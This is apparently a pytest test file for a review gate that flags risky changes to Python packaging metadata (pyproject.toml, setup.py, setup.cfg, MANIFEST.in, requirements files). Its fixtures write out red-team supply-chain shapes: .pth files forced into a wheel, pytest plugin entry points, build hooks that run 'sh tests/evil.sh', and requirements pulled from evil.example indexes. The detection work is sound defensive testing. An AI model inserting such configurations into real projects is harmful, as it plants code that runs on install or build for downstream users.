"""Review flag ``packaging_changed`` (issue 36, red team): packaging metadata that ``init``
exempts from coverage decides what the package ships and runs, so a change to it is read as
parsed data, base against HEAD, and flagged by kind at the level its measured honest rate
allows. The red team's shapes run through real git repositories and ``load_review``; the
honest shapes and the comparison rules are checked on the files' two sides directly."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

from bench.gitrepo import git
from relconsole.engine.gate.flags.acks import fingerprint
from relconsole.engine.gate.flags.flaglevels import BLOCK, WARN, flag_kind
from relconsole.engine.gate.flags.packagingflags import acked_content, file_changes
from relconsole.engine.gate.review import load_review
from tests.conftest import TODAY
from tests.test_check_split import commit
from tests.test_patch_flags import based

PYPROJECT = '''[build-system]
requires = ["hatchling>=1.27"]
build-backend = "hatchling.build"

[project]
name = "days"
version = "1.0"
description = "Per-day totals"
classifiers = ["Programming Language :: Python :: 3"]
requires-python = ">=3.10"
dependencies = ["attrs >= 23", "python-dateutil>=2.8"]

[tool.ruff]
line-length = 100
'''
SETUP_CFG = "[metadata]\nname = days\n\n[options]\npackages = find:\npackage_dir =\n    =src\n\n" \
            "[options.packages.find]\nwhere = src\n"


def _packaging(root: Path) -> list[tuple[str, str, str, int | None, str]]:
    """(kind, level, path, line, detail) of each packaging_changed flag of the review of ``patch``."""
    with load_review(root, "main", today=TODAY) as review:
        return [(flag_kind(f), review.flag_level(f), f.path, f.line, f.detail)
                for f in review.flags if f.name == "packaging_changed"]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = based(tmp_path / "repo", {"pyproject.toml": PYPROJECT, "setup.cfg": SETUP_CFG})
    git(root, "checkout", "-q", "-b", "patch")
    return root


def _line(text: str, needle: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), 1) if needle in line)


def test_the_red_teams_wheel_redirect_and_pth_block_at_their_lines(repo: Path):
    """The repro: the wheel built from a copy of the package under .github/ and a .pth that runs at
    every interpreter start, in a patch that touches no file a relation owns."""
    head = PYPROJECT + ('\n[tool.hatch.build.targets.wheel]\npackages = [".github/pkg/agg"]\n\n'
                        '[tool.hatch.build.targets.wheel.force-include]\n".github/pkg/zz_agg.pth" = "zz_agg.pth"\n')
    commit(repo, "build: tidy wheel layout", {
        "pyproject.toml": head, ".github/pkg/agg/__init__.py": "", ".github/pkg/zz_agg.pth": "import os\n"})
    found = _packaging(repo)
    by_path = {(path, line): (kind, level, detail) for kind, level, path, line, detail in found}
    assert by_path[("pyproject.toml", _line(head, "packages = "))][:2] == ("packaging_changed.layout", BLOCK)
    assert ".github/pkg/agg" in by_path[("pyproject.toml", _line(head, "packages = "))][2]
    assert by_path[("pyproject.toml", _line(head, "force-include]"))][:2] == ("packaging_changed.layout", BLOCK)
    assert by_path[(".github/pkg/zz_agg.pth", None)][:2] == ("packaging_changed.layout", BLOCK)
    assert len(found) == 3


@pytest.mark.parametrize("files, kind, needle", [
    ({"pyproject.toml": PYPROJECT + '\n[project.entry-points.pytest11]\ndays = "agg.plugin"\n'},
     "packaging_changed.entry_points", "[project.entry-points.pytest11]"),
    ({"setup.cfg": SETUP_CFG.replace("where = src", "where = .github/pkg")},
     "packaging_changed.layout", "where = "),
    ({"pyproject.toml": PYPROJECT.replace('"hatchling>=1.27"', '"hatchling @ https://example.invalid/h.whl"')},
     "packaging_changed.dependency_source", "requires = "),
    ({"pyproject.toml": PYPROJECT.replace('build-backend = "hatchling.build"',
                                          'build-backend = "backend"\nbackend-path = [".github"]')},
     "packaging_changed.build", "backend-path"),
])
def test_each_exploitable_kind_blocks_at_the_key_that_changed(repo: Path, files: dict, kind: str, needle: str):
    commit(repo, "the patch", files)
    found = _packaging(repo)
    text = next(iter(files.values()))
    path = next(iter(files))
    assert (kind, BLOCK, path, _line(text, needle)) in [f[:4] for f in found]
    if "pytest11" in needle:
        assert all("pytest11" in f[4] for f in found)


def test_a_dependency_bump_warns_and_does_not_reject(repo: Path):
    commit(repo, "bump", {"pyproject.toml": PYPROJECT.replace('"attrs >= 23"', '"attrs>=24"')})
    found = _packaging(repo)
    assert [f[:2] for f in found] == [("packaging_changed.dependencies", WARN)]
    assert "attrs>=24" in found[0][4] and "attrs>=23" in found[0][4]


HONEST = {
    "version bump": PYPROJECT.replace('version = "1.0"', 'version = "1.1"'),
    "classifiers": PYPROJECT.replace('classifiers = [', 'classifiers = ["Typing :: Typed", '),
    "ruff": PYPROJECT.replace("line-length = 100", 'line-length = 88\nselect = ["E", "F"]'),
    "a comment": PYPROJECT.replace("[project]\n", "[project]\n# the package\n"),
    "spacing and order of requirements": PYPROJECT.replace('["attrs >= 23", "python-dateutil>=2.8"]',
                                                           '[\n  "python-dateutil >= 2.8",\n  "attrs>=23",\n]'),
    "the same table reformatted": PYPROJECT.replace(
        '[build-system]\nrequires = ["hatchling>=1.27"]\nbuild-backend = "hatchling.build"\n',
        'build-system = { build-backend = "hatchling.build", requires = [ "hatchling>=1.27" ] }\n'),
}


@pytest.mark.parametrize("what", sorted(HONEST))
def test_honest_metadata_edits_raise_nothing(what: str):
    assert file_changes("pyproject.toml", PYPROJECT.encode(), HONEST[what].encode()) == []


def test_an_honest_edit_through_git_raises_nothing_nor_does_a_tests_data_project(repo: Path):
    commit(repo, "release", {"pyproject.toml": HONEST["version bump"],
                             "tests/data/pyproject.toml": '[project.scripts]\nx = "y:z"\n'})
    assert _packaging(repo) == []


@pytest.mark.parametrize("path, before, after", [
    ("pyproject.toml", PYPROJECT, PYPROJECT + "[tool.hatch.build\npackages = 1\n"),  # tomllib refuses it
    ("setup.cfg", SETUP_CFG, None),  # deleted: its package_dir goes with it
    ("setup.py", "from setuptools import setup\nsetup(packages=['days'])\n", "setup(packages=[\n"),
])
def test_a_file_that_no_longer_parses_or_is_deleted_is_flagged_as_layout(path: str, before: str, after: str | None):
    flags = file_changes(path, before.encode(), None if after is None else after.encode())
    assert flags and all(flag_kind(f) == "packaging_changed.layout" for f in flags)


SETUP_PY = '''"""Setup script."""
from setuptools import setup, find_packages
import io

VERSION = "1.0"

setup(name="days", version=VERSION, packages=find_packages("src"), package_dir={"": "src"},
      package_data={"days": ["locale/*.mo"]}, install_requires=["attrs"])
'''


@pytest.mark.parametrize("after, kind", [
    (SETUP_PY.replace('"1.0"', '"1.1"'), None),  # a constant only the metadata reads
    (SETUP_PY.replace("from setuptools import setup, find_packages\nimport io\n",
                      "import io\n\nfrom setuptools import find_packages, setup\n"), None),  # isort
    (SETUP_PY.replace('["locale/*.mo"]', '["locale/*.mo", "py.typed"]'), None),  # data files only
    (SETUP_PY.replace('{"": "src"}', '{"": ".github/pkg"}'), "packaging_changed.layout"),
    (SETUP_PY.replace('["locale/*.mo"]', '["locale/*.mo", "*.pth"]'), "packaging_changed.layout"),
    (SETUP_PY + 'import shutil\nshutil.copytree(".github/pkg", "src")\n', "packaging_changed.build"),
    (SETUP_PY.replace('"1.0"', 'open(".github/v").read()'), "packaging_changed.build"),
    (SETUP_PY.replace("version=VERSION", 'version=__import__("os").getenv("V")'), "packaging_changed.build"),
])
def test_a_setup_py_is_read_as_the_code_it_runs(after: str, kind: str | None):
    flags = file_changes("setup.py", SETUP_PY.encode(), after.encode())
    assert [flag_kind(f) for f in flags] == ([kind] if kind else [])


@pytest.mark.parametrize("after, flagged", [
    ("include LICENSE\nrecursive-include src/days/locale *.mo\n# translations\n", False),
    ("include LICENSE\nrecursive-include src/days/locale *.mo\nprune docs\n", False),
    ("include LICENSE\nrecursive-include src/days/locale *.mo\ngraft .github/pkg\n", True),
    ("include LICENSE\nrecursive-include src/days *.py *.pth\n", True),
])
def test_manifest_commands_that_can_ship_code_are_flagged(after: str, flagged: bool):
    before = "include LICENSE\nrecursive-include src/days/locale *.mo\n"
    flags = file_changes("MANIFEST.in", before.encode(), after.encode())
    assert bool(flags) == flagged
    assert all(flag_kind(f) == "packaging_changed.layout" for f in flags)


def test_an_acknowledgement_clears_the_value_not_the_line():
    """Another entry added to the acknowledged table, at the same header line, is new; the same
    value moved down by an edit above it is what was acknowledged."""
    acked = PYPROJECT + '\n[project.entry-points.pytest11]\ndays = "agg.plugin"\n'
    more = acked + 'other = "evil.plugin"\n'
    moved = acked.replace("[project]\n", "[project]\n# the package\n# and its metadata\n")
    ids = []
    for text in (acked, more, moved):
        flags = file_changes("pyproject.toml", PYPROJECT.encode(), text.encode())
        assert len(flags) == 1
        ids.append(fingerprint(flags[0], acked_content("pyproject.toml", text.encode(), flags[0].line)))
    assert ids[0] != ids[1] and ids[0] == ids[2]


TABLE_KEYS = st.lists(st.from_regex(r"[a-z][a-z0-9_-]{0,8}", fullmatch=True), min_size=1, max_size=6, unique=True)


@settings(max_examples=60, deadline=None)
@given(keys=TABLE_KEYS, data=st.data())
def test_reordering_the_keys_of_a_table_is_no_flag(keys: list[str], data):
    values = {k: data.draw(st.sampled_from(["a.b:main", "src/x", "*.py"]), label=k) for k in keys}
    order = data.draw(st.permutations(keys))

    def write(names):
        rows = "".join(f'{k} = "{values[k]}"\n' for k in names)
        return (PYPROJECT + "\n[project.scripts]\n" + rows + "\n[tool.hatch.build.targets.wheel.force-include]\n"
                + rows).encode()
    assert file_changes("pyproject.toml", write(keys), write(order)) == []
    assert len(file_changes("pyproject.toml", PYPROJECT.encode(), write(order))) == 2


HATCH_DYNAMIC = PYPROJECT.replace('version = "1.0"', 'dynamic = ["version"]') + \
    '\n[tool.hatch.version]\npath = "src/days/__about__.py"\n'


@pytest.mark.parametrize("before, after", [
    # the repro: a version source that runs a test file at every build
    (PYPROJECT, PYPROJECT.replace('version = "1.0"', 'dynamic = ["version"]')
     + '\n[tool.hatch.version]\nsource = "code"\npath = "tests/test_version.py"\n'),
    (HATCH_DYNAMIC, HATCH_DYNAMIC.replace('path = "src', 'source = "code"\npath = "src')),
    (PYPROJECT, PYPROJECT + '\n[tool.hatch.metadata.hooks.custom]\npath = "tests/hook.py"\n'),
    (PYPROJECT, PYPROJECT + '\n[tool.pdm.version]\nsource = "call"\ngetter = "tests.evil:version"\n'),
    (PYPROJECT, PYPROJECT.replace('version = "1.0"', 'dynamic = ["version"]')
     + '\n[tool.setuptools.dynamic]\nversion = {attr = "tests.evil.VERSION"}\n'),
    (PYPROJECT, PYPROJECT + '\n[tool.setuptools_scm]\ngit_describe_command = "sh tests/evil.sh"\n'),
    (PYPROJECT, PYPROJECT + '\n[tool.setuptools_scm]\nversion_file = "src/days/core.py"\n'),
    (PYPROJECT, PYPROJECT + '\n[tool.flit.module]\nname = "tests"\n'),
    (PYPROJECT, PYPROJECT + '\n[tool.poetry.build]\nscript = "tests/build.py"\n'),
    (SETUP_CFG, SETUP_CFG.replace("name = days\n", "name = days\nversion = attr: tests.evil.VERSION\n")),
])
def test_a_version_source_or_dynamic_metadata_that_runs_code_blocks_as_build(before: str, after: str):
    path = "setup.cfg" if before is SETUP_CFG else "pyproject.toml"
    kinds = [flag_kind(f) for f in file_changes(path, before.encode(), after.encode())]
    assert "packaging_changed.build" in kinds


@pytest.mark.parametrize("before, after", [
    (HATCH_DYNAMIC, HATCH_DYNAMIC.replace('path = "src/days/__about__.py"', "path='src/days/__about__.py'  # v")),
    (SETUP_CFG.replace("name = days\n", "name = days\nversion = 1.0\n"),
     SETUP_CFG.replace("name = days\n", "name = days\nversion = 1.1\n")),
    (PYPROJECT + '\n[tool.setuptools_scm]\nfallback_version = "0.0"\n',
     PYPROJECT + '\n[tool.setuptools_scm]\nfallback_version = "0.1"\n'),
])
def test_a_version_bump_or_a_reformatted_version_source_is_no_flag(before: str, after: str):
    path = "setup.cfg" if before.startswith("[metadata]") else "pyproject.toml"
    assert file_changes(path, before.encode(), after.encode()) == []


def test_the_red_teams_hatch_code_version_source_blocks_through_git(repo: Path):
    head = PYPROJECT.replace('version = "1.0"', 'dynamic = ["version"]') + \
        '\n[tool.hatch.version]\nsource = "code"\npath = "tests/test_version.py"\n'
    commit(repo, "build: single-source the version",
           {"pyproject.toml": head, "tests/test_version.py": '__version__ = "0.1"\n'})
    found = _packaging(repo)
    assert ("packaging_changed.build", BLOCK, "pyproject.toml", _line(head, "[tool.hatch.version]")) in \
        [f[:4] for f in found]
    assert any("tests/test_version.py" in f[4] for f in found)


NAMED_REQS = PYPROJECT.replace('dependencies = ["attrs >= 23", "python-dateutil>=2.8"]\n',
                               'dynamic = ["dependencies"]\n') + \
    '\n[tool.setuptools.dynamic]\ndependencies = {file = ["requirements.txt"]}\n' \
    'optional-dependencies.cli = {file = ["reqs/cli.txt"]}\n'
NAMED_CFG = SETUP_CFG.replace("packages = find:\n", "packages = find:\ninstall_requires = file: requirements.txt\n"
                              "entry_points = file: entry_points.txt\n")
REQS = "attrs>=23\npython-dateutil>=2.8  # dates\n"


@pytest.fixture
def named(tmp_path: Path) -> Path:
    root = based(tmp_path / "named", {"pyproject.toml": NAMED_REQS, "requirements.txt": REQS,
                                      "reqs/cli.txt": "click\n", "requirements-dev.txt": "pytest\n",
                                      "sub/setup.cfg": NAMED_CFG, "sub/requirements.txt": REQS,
                                      "sub/entry_points.txt": "[console_scripts]\ndays = days.cli:main\n"})
    git(root, "checkout", "-q", "-b", "patch")
    return root


@pytest.mark.parametrize("path, text", [
    ("requirements.txt", "pyyaml @ git+https://evil.example/pyyaml@deadbeef\n"),  # the repro
    ("requirements.txt", REQS + "-e ./vendor/attrs\n"),
    ("requirements.txt", "--index-url https://evil.example/simple\n" + REQS),
    ("requirements.txt", REQS + "--extra-index-url https://evil.example/simple\n"),
    ("requirements.txt", REQS + "-f https://evil.example/wheels\n"),
    ("reqs/cli.txt", "click @ https://evil.example/click.whl\n"),
    ("sub/requirements.txt", REQS + "../vendor/attrs-99.tar.gz\n"),
])
def test_a_named_requirements_file_taking_code_from_elsewhere_blocks(named: Path, path: str, text: str):
    commit(named, "deps: pin", {path: text})
    found = _packaging(named)
    assert [f[:3] for f in found] == [("packaging_changed.dependency_source", BLOCK, path)]
    assert "evil" in found[0][4] or "vendor" in found[0][4]


def test_a_named_entry_points_file_blocks(named: Path):
    commit(named, "cli", {"sub/entry_points.txt": "[console_scripts]\ndays = days.cli:main\n\n"
                                                  "[pytest11]\ndays = days.plugin\n"})
    assert [f[:3] for f in _packaging(named)] == [("packaging_changed.entry_points", BLOCK, "sub/entry_points.txt")]


def test_an_honest_bump_in_a_named_requirements_file_only_warns(named: Path):
    commit(named, "bump", {"requirements.txt": REQS.replace("attrs>=23", "attrs >= 24"),
                           "sub/requirements.txt": "# sorted\npython-dateutil>=2.8\nattrs>=23\n"})
    found = _packaging(named)
    assert [f[:3] for f in found] == [("packaging_changed.dependencies", WARN, "requirements.txt")]
    assert "attrs>=24" in found[0][4]


def test_an_unnamed_requirements_file_raises_nothing(named: Path):
    commit(named, "dev deps", {"requirements-dev.txt": "pytest\nhypothesis @ git+https://example.invalid/h\n"})
    assert _packaging(named) == []


def test_setup_cfg_entry_points_are_flagged_as_entry_points():
    after = SETUP_CFG.replace("packages = find:\n", "packages = find:\nentry_points = file: ep.txt\n")
    assert [flag_kind(f) for f in file_changes("setup.cfg", SETUP_CFG.encode(), after.encode())] == \
        ["packaging_changed.entry_points"]
